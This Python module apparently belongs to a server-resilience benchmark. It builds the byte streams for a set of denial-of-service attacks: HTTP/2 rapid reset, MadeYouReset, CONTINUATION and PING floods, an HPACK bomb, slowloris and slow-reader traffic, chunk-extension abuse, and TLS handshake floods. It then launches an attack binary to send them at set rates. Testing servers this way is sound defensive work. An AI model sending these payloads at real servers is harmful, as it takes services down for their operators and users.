# SPDX-License-Identifier: Apache-2.0
"""The attackers of the scenario `attacks`: what each sends, over how many connections and how fast.

The bytes are made once; e2e/attack.c sends them. Header blocks are of the static table and of literals, so that nothing
depends on what came before, and as short as they can be.
"""

import json
import subprocess

import measure
import subjects

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
AUTHORITY = b"\x01\x01a"
GET = b"\x82\x84\x86" + AUTHORITY
POST = b"\x83\x84\x86" + AUTHORITY
GET_LARGE = b"\x82\x86\x04\x06/large" + AUTHORITY
MBYTE = 1_000_000
STREAMS = 4000  # of a connection, unless it is thrown out before


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def number(value):
    return value.to_bytes(4, "big")


def start(*settings):
    return PREFACE + frame(SETTINGS, 0, 0, b"".join(key.to_bytes(2, "big") + number(value) for key, value in settings))


def streams(make, count=STREAMS):
    return b"".join(make(1 + 2 * n) for n in range(count))


def request(stream, block=GET, flags=END_STREAM):
    return frame(HEADERS, flags | END_HEADERS, stream, block)


def literal(name, value):
    """A header field without indexing; with `64 +` in front of its first byte it enters the table."""
    return b"\0" + bytes([len(name)]) + name + length(len(value)) + value


def length(value):
    """An HPACK integer of 7 bits."""
    if value < 127:
        return bytes([value])
    out, value = b"\x7f", value - 127
    while value >= 128:
        out, value = out + bytes([value % 128 + 128]), value // 128
    return out + bytes([value])


def bomb(stream):
    """Fourteen references to 3,900 bytes: near the limit of the headers of one request."""
    return request(stream, GET + b"\xbe" * 14)


LONG = b"\x40" + literal(b"x-long", b"v" * 3900)[1:]
GET_1 = b"GET / HTTP/1.1\r\nhost: a\r\n"
POST_1 = b"POST / HTTP/1.1\r\nhost: a\r\n"


class Attack:
    """rate: bytes a second over all connections; the other options are those of attack.c."""

    unit = "kB/s"

    def __init__(self, rate, opening, loop, connections=4, **options):
        self.rate, self.opening, self.loop = rate, opening, loop
        self.options = {"connections": connections, **options}
        self.asked = rate / 1000

    def begin(self, tools, process, work):
        (work / "attack.open").write_bytes(self.opening)
        (work / "attack.loop").write_bytes(self.loop)
        return Running(tools["attack"], {
            "port": process.listen, "rate": self.rate, "open": work / "attack.open", "loop": work / "attack.loop", **self.options})

    def rate_of(self, told):
        return told["sent"] / 1000 / told["seconds"]


class Handshakes:
    """rate: mutual TLS handshakes a second, each connection closed at once."""

    unit = "handshakes/s"

    def __init__(self, rate):
        self.rate = self.asked = rate

    def begin(self, tools, process, work):
        return Running(tools["handshake"], {
            **measure.client_of(work / "certificates"), "port": process.listen_tls, "rate": self.rate, "count": 1 << 30}, ["--sync"])

    def rate_of(self, told):
        return told["handshakes"] / told["seconds"]


class Running:
    """An attacker that has begun."""

    def __init__(self, binary, options, flags=()):
        argv = [str(binary), *flags]
        for name, value in options.items():
            argv += ["--" + name, str(value)]
        self.popen = subprocess.Popen(
            argv, stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
            preexec_fn=subjects.pin(subjects.LOAD_CORE),
        )
        if self.popen.stdout.readline().strip() not in ("running", "warm"):
            self.popen.kill()
            raise RuntimeError(f"attacker: {self.popen.communicate()[1].strip() or 'ended early'}")
        self.popen.stdin.write("go\n")
        self.popen.stdin.flush()

    def end(self):
        """What it says of itself."""
        self.popen.terminate()
        out, err = self.popen.communicate("go\n")
        if self.popen.returncode != 0:
            raise RuntimeError(f"attacker: {err.strip() or self.popen.returncode}")
        return json.loads(out.strip().split("\n")[-1])


ATTACKS = {
    "rapid reset": Attack(MBYTE // 4, start(), streams(lambda s: request(s) + frame(RST_STREAM, 0, s, number(8))), laps=1),
    "MadeYouReset": Attack(MBYTE // 4, start(), streams(lambda s: request(s) + frame(WINDOW_UPDATE, 0, s, number(2**31 - 1))), laps=1),
    "CONTINUATION": Attack(
        MBYTE, start() + frame(HEADERS, END_STREAM, 1, GET), frame(CONTINUATION, 0, 1, literal(b"x-a", b"b")) * 1000),
    "empty CONTINUATION": Attack(MBYTE, start() + frame(HEADERS, END_STREAM, 1, GET), frame(CONTINUATION, 0, 1) * 1000),
    "PING": Attack(MBYTE, start(), frame(PING, 0, 0, b"01234567") * 1000),
    "SETTINGS": Attack(MBYTE, start(), frame(SETTINGS, 0, 0) * 1000),
    "empty DATA": Attack(MBYTE, start() + request(1, POST, 0), frame(DATA, 0, 1) * 1000),
    "HPACK bomb": Attack(MBYTE // 4, start() + request(1, GET + LONG), streams(lambda s: bomb(s + 2)), laps=1),
    "zero window": Attack(
        MBYTE // 4, start((4, 0)) + streams(lambda s: request(s, GET_LARGE), 100),
        streams(lambda s: frame(WINDOW_UPDATE, 0, s, number(1)), 100)),
    "PRIORITY": Attack(MBYTE, start(), streams(lambda s: frame(PRIORITY, 0, s, number(0) + b"\x0f"), 20000), laps=1),
    "slowloris": Attack(5000, GET_1 + b"x-a: ", b"a", connections=1000, piece=1),
    "slow body": Attack(5000, POST_1 + b"content-length: 1000000000\r\n\r\n", b"a", connections=200, piece=1),
    "slow reader": Attack(MBYTE // 100, GET_1[:4] + b"/large" + GET_1[5:] + b"\r\n", GET_1 + b"\r\n", connections=200, piece=100, read=1000),
    "chunk extensions": Attack(MBYTE, POST_1 + b"transfer-encoding: chunked\r\n\r\n", b"1;a=b\r\nx\r\n" * 1000),
    "TLS handshakes": Handshakes(50),
}
